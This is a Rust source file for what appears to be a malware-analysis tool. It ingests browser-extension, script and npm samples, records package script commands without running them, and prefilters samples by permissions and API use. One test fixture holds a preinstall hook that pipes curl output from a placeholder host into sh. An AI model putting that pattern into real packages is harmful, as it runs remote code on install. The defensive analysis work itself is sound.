//! Loading samples from disk, and the static prefilter.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use regex::Regex;
use serde::{Deserialize, Serialize};
use serde_json::Value;
use thiserror::Error;
use walkdir::WalkDir;

use crate::frontend::parse_str;
use crate::scanner::{static_apis, ApiCatalog, Mode};

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum SampleKind {
    Script,
    Extension,
    Npm,
}

impl SampleKind {
    pub fn default_mode(self) -> Mode {
        match self {
            SampleKind::Npm => Mode::Npm,
            _ => Mode::Browser,
        }
    }
}

impl std::str::FromStr for SampleKind {
    type Err = String;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s {
            "script" => Ok(SampleKind::Script),
            "extension" => Ok(SampleKind::Extension),
            "npm" => Ok(SampleKind::Npm),
            other => Err(format!("unknown sample kind {other:?} (expected script, extension or npm)")),
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Label {
    Benign,
    Malicious,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct EntryPoint {
    /// Path relative to the sample root.
    pub path: String,
    pub text: String,
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Sample {
    pub id: String,
    pub kind: SampleKind,
    pub entries: Vec<EntryPoint>,
    /// Every text file of the sample by relative path, for `ext://` and `require` lookups.
    pub files: BTreeMap<String, String>,
    /// Parsed manifest.json or package.json.
    pub metadata: Option<Value>,
    /// The manifest asks for access to every site.
    pub all_urls: bool,
    /// Package script commands, recorded verbatim and never run.
    pub commands: Vec<String>,
    pub label: Option<Label>,
}

#[derive(Debug, Error)]
pub enum IngestError {
    #[error("{0}: no such file or directory")]
    Missing(PathBuf),
    #[error("{path}: {source}")]
    Io { path: PathBuf, source: std::io::Error },
    #[error("{path}: missing {what}")]
    NoDescriptor { path: PathBuf, what: &'static str },
    #[error("{path}: invalid {what}: {detail}")]
    BadDescriptor { path: PathBuf, what: &'static str, detail: String },
    #[error("{path}: entry point {entry} does not exist")]
    MissingEntry { path: PathBuf, entry: String },
}

fn read(path: &Path) -> Result<String, IngestError> {
    std::fs::read_to_string(path).map_err(|source| IngestError::Io { path: path.to_path_buf(), source })
}

fn text_files(root: &Path) -> Result<BTreeMap<String, String>, IngestError> {
    let mut out = BTreeMap::new();
    for entry in WalkDir::new(root).sort_by_file_name() {
        let entry = entry.map_err(|e| IngestError::Io { path: root.to_path_buf(), source: e.into() })?;
        if !entry.file_type().is_file() {
            continue;
        }
        let rel = entry.path().strip_prefix(root).unwrap_or(entry.path());
        let rel = rel.components().map(|c| c.as_os_str().to_string_lossy()).collect::<Vec<_>>().join("/");
        if rel.split('/').any(|c| c == "node_modules" || c.starts_with('.')) {
            continue;
        }
        if let Ok(text) = std::fs::read_to_string(entry.path()) {
            out.insert(rel, text);
        }
    }
    Ok(out)
}

fn id_of(path: &Path) -> String {
    path.file_stem()
        .or_else(|| path.file_name())
        .map(|s| s.to_string_lossy().into_owned())
        .unwrap_or_else(|| "sample".into())
}

fn descriptor(root: &Path, name: &str, what: &'static str) -> Result<Value, IngestError> {
    let path = root.join(name);
    if !path.is_file() {
        return Err(IngestError::NoDescriptor { path: root.to_path_buf(), what });
    }
    let text = read(&path)?;
    serde_json::from_str(&text).map_err(|e| IngestError::BadDescriptor { path, what, detail: e.to_string() })
}

fn strings(v: Option<&Value>) -> Vec<String> {
    match v {
        Some(Value::String(s)) => vec![s.clone()],
        Some(Value::Array(a)) => a.iter().filter_map(|x| x.as_str().map(str::to_string)).collect(),
        _ => Vec::new(),
    }
}

const ALL_URL_PATTERNS: [&str; 4] = ["<all_urls>", "*://*/*", "http://*/*", "https://*/*"];

/// Scripts named in an extension manifest, content scripts first, in manifest order.
pub fn manifest_entries(manifest: &Value) -> Vec<String> {
    let mut out: Vec<String> = Vec::new();
    if let Some(Value::Array(cs)) = manifest.get("content_scripts") {
        for c in cs {
            out.extend(strings(c.get("js")));
        }
    }
    if let Some(bg) = manifest.get("background") {
        out.extend(strings(bg.get("scripts")));
        out.extend(strings(bg.get("service_worker")));
    }
    let mut seen = std::collections::BTreeSet::new();
    out.retain(|p| seen.insert(p.clone()));
    out.into_iter().map(|p| p.trim_start_matches("./").trim_start_matches('/').to_string()).collect()
}

pub fn manifest_all_urls(manifest: &Value) -> bool {
    let mut patterns = strings(manifest.get("permissions"));
    patterns.extend(strings(manifest.get("host_permissions")));
    if let Some(Value::Array(cs)) = manifest.get("content_scripts") {
        for c in cs {
            patterns.extend(strings(c.get("matches")));
        }
    }
    patterns.iter().any(|p| ALL_URL_PATTERNS.contains(&p.as_str()))
}

/// Package script commands in table order, and the files run by `node <file>` commands.
pub fn package_scripts(package: &Value) -> (Vec<String>, Vec<String>) {
    let node = Regex::new(r"^\s*node\s+([^\s;&|]+)").expect("static regex");
    let mut commands = Vec::new();
    let mut files = Vec::new();
    if let Some(Value::Object(scripts)) = package.get("scripts") {
        for cmd in scripts.values().filter_map(Value::as_str) {
            commands.push(cmd.to_string());
            if let Some(c) = node.captures(cmd) {
                let f = c[1].trim_start_matches("./").to_string();
                if !files.contains(&f) {
                    files.push(f);
                }
            }
        }
    }
    (commands, files)
}

fn entries(root: &Path, files: &BTreeMap<String, String>, names: Vec<String>) -> Result<Vec<EntryPoint>, IngestError> {
    names
        .into_iter()
        .map(|name| {
            let text = files.get(&name).or_else(|| files.get(&format!("{name}.js"))).cloned();
            text.map(|text| EntryPoint { path: name.clone(), text })
                .ok_or_else(|| IngestError::MissingEntry { path: root.to_path_buf(), entry: name })
        })
        .collect()
}

pub fn ingest(path: &Path, kind: SampleKind) -> Result<Sample, IngestError> {
    if !path.exists() {
        return Err(IngestError::Missing(path.to_path_buf()));
    }
    let id = id_of(path);
    match kind {
        SampleKind::Script => {
            let text = read(path)?;
            let name = path.file_name().map(|n| n.to_string_lossy().into_owned()).unwrap_or_else(|| "main.js".into());
            Ok(Sample {
                id,
                kind,
                entries: vec![EntryPoint { path: name.clone(), text: text.clone() }],
                files: BTreeMap::from([(name, text)]),
                metadata: None,
                all_urls: false,
                commands: Vec::new(),
                label: None,
            })
        }
        SampleKind::Extension => {
            let manifest = descriptor(path, "manifest.json", "manifest.json")?;
            let files = text_files(path)?;
            let entries = entries(path, &files, manifest_entries(&manifest))?;
            Ok(Sample {
                id,
                kind,
                entries,
                files,
                all_urls: manifest_all_urls(&manifest),
                metadata: Some(manifest),
                commands: Vec::new(),
                label: None,
            })
        }
        SampleKind::Npm => {
            let package = descriptor(path, "package.json", "package.json")?;
            let files = text_files(path)?;
            let (commands, names) = package_scripts(&package);
            let entries = entries(path, &files, names)?;
            Ok(Sample { id, kind, entries, files, metadata: Some(package), all_urls: false, commands, label: None })
        }
    }
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct PrefilterDecision {
    pub id: String,
    pub keep: bool,
    pub reason: String,
}

/// Keep a sample when its manifest grants all URLs or an entry point uses a catalog API.
pub fn prefilter(samples: &[Sample], catalog: &ApiCatalog) -> Vec<PrefilterDecision> {
    samples
        .iter()
        .map(|s| {
            let mut apis = std::collections::BTreeSet::new();
            let mut unparsed = Vec::new();
            for e in &s.entries {
                match parse_str(&e.text) {
                    Ok(p) => apis.extend(static_apis(&p, catalog).into_iter().map(|a| a.name)),
                    Err(_) => unparsed.push(e.path.clone()),
                }
            }
            let grants = s.kind == SampleKind::Extension && s.all_urls;
            let (keep, reason) = match (grants, apis.is_empty()) {
                (true, _) => (true, "manifest grants access to all URLs".to_string()),
                (false, false) => (true, format!("uses {}", apis.into_iter().collect::<Vec<_>>().join(", "))),
                (false, true) if !unparsed.is_empty() => {
                    (false, format!("no catalog API found; unparsable: {}", unparsed.join(", ")))
                }
                (false, true) => (false, "no catalog API and no all-URLs permission".to_string()),
            };
            PrefilterDecision { id: s.id.clone(), keep, reason }
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn write(dir: &Path, name: &str, text: &str) {
        let p = dir.join(name);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, text).unwrap();
    }

    #[test]
    fn extension_with_content_script() {
        let d = tempfile::tempdir().unwrap();
        let root = d.path().join("ext1");
        write(
            &root,
            "manifest.json",
            &json!({"content_scripts": [{"matches": ["https://a.example/*"], "js": ["c.js"]}]}).to_string(),
        );
        write(&root, "c.js", "var a = 1;");
        let s = ingest(&root, SampleKind::Extension).unwrap();
        assert_eq!(s.id, "ext1");
        assert_eq!(s.entries.len(), 1);
        assert!(!s.all_urls);
    }

    #[test]
    fn extension_errors() {
        let d = tempfile::tempdir().unwrap();
        assert!(matches!(ingest(d.path(), SampleKind::Extension), Err(IngestError::NoDescriptor { .. })));
        write(d.path(), "manifest.json", "{not json");
        assert!(matches!(ingest(d.path(), SampleKind::Extension), Err(IngestError::BadDescriptor { .. })));
        write(d.path(), "manifest.json", &json!({"background": {"service_worker": "bg.js"}}).to_string());
        assert!(matches!(ingest(d.path(), SampleKind::Extension), Err(IngestError::MissingEntry { .. })));
        assert!(matches!(ingest(&d.path().join("nope"), SampleKind::Script), Err(IngestError::Missing(_))));
    }

    #[test]
    fn npm_scripts() {
        let d = tempfile::tempdir().unwrap();
        write(d.path(), "package.json", &json!({"scripts": {"install": "node setup.js", "test": "jest"}}).to_string());
        write(d.path(), "setup.js", "1;");
        let s = ingest(d.path(), SampleKind::Npm).unwrap();
        assert_eq!(s.entries.iter().map(|e| e.path.as_str()).collect::<Vec<_>>(), vec!["setup.js"]);
        assert_eq!(s.commands, vec!["node setup.js", "jest"]);

        let d = tempfile::tempdir().unwrap();
        write(d.path(), "package.json", &json!({"scripts": {"preinstall": "curl https://x.example | sh"}}).to_string());
        let s = ingest(d.path(), SampleKind::Npm).unwrap();
        assert!(s.entries.is_empty());
        assert_eq!(s.commands.len(), 1);
    }

    #[test]
    fn prefilter_reasons() {
        let mk = |id: &str, kind, text: &str, all_urls| Sample {
            id: id.into(),
            kind,
            entries: vec![EntryPoint { path: "a.js".into(), text: text.into() }],
            files: BTreeMap::new(),
            metadata: None,
            all_urls,
            commands: Vec::new(),
            label: None,
        };
        let samples = vec![
            mk("uses", SampleKind::Extension, "document.body.appendChild(x);", false),
            mk("plain", SampleKind::Extension, "var a = 1;", false),
            mk("grants", SampleKind::Extension, "var a = 1;", true),
            mk("script-grants", SampleKind::Script, "var a = 1;", true),
        ];
        let d = prefilter(&samples, &ApiCatalog::browser());
        assert_eq!(d.iter().map(|x| x.keep).collect::<Vec<_>>(), vec![true, false, true, false]);
        assert!(d[0].reason.contains("appendChild"));
    }
}
